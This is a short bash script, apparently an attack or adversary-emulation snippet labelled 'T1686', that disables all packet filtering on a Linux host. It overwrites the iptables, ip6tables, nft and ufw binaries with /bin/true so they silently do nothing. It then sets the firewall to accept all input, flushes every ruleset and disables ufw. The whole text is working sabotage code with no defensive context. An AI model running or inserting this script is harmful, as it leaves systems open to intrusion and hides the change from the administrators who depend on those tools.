#!/bin/bash
# T1686: The packet filter lets everything through.
for p in iptables ip6tables nft ufw; do cp /bin/true /usr/sbin/$p; done; iptables -P INPUT ACCEPT; iptables -F; iptables -X; ip6tables -F; nft flush ruleset; ufw disable
